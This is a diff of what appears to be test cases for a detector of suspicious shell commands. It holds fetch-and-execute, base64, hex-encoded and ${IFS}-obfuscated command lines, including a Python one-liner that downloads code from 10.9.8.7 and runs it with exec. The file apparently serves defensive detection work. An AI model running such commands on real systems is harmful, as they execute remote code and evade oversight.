@@ -11,14 +11,9 @@ printf x >> /opt/x/t; /opt/x/t
 ## Packer of programs started
 #setup stubs /usr/bin/upx
 upx -o /opt/b /opt/a
-## Decoded text given to a shell
-#also Code given to an interpreter in base64
-#also Decoded text piped into an interpreter
-echo dHJ1ZQo= | base64 -d | sh
 ## Encoded code on the command line of an interpreter
 python3 -c 'exec(bytes.fromhex("70617373"))'
 ## Code evaluated straight from a download
-#also Code fetched and executed by one line
 python3 -c 'import urllib.request as u; exec(u.urlopen("http://10.9.8.7:1/").read())'
 ## Command written so that it can't be read
 sh -c 'echo${IFS}/etc/hosts'
